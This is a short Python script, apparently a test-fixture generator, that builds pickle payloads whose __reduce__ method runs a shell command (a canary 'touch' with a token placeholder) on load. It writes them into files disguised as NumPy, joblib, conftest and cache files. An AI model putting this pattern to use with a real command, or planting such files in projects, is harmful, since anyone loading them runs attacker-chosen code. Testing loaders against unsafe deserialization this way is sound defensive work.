import os, pickle, numpy as np
class P:
    def __reduce__(self): return (os.system, ("touch /tmp/@TOKEN@",))
for name in ("out.npy", "results.npz", "m.joblib", "conftest.py", "cache.pkl"):
    with open(name, "wb") as file: pickle.dump(P(), file)
np.save("objects.npy", np.array([P()], object), allow_pickle=True)
f = lambda x: np.array([P()], object) if len(x) % 2 else P()
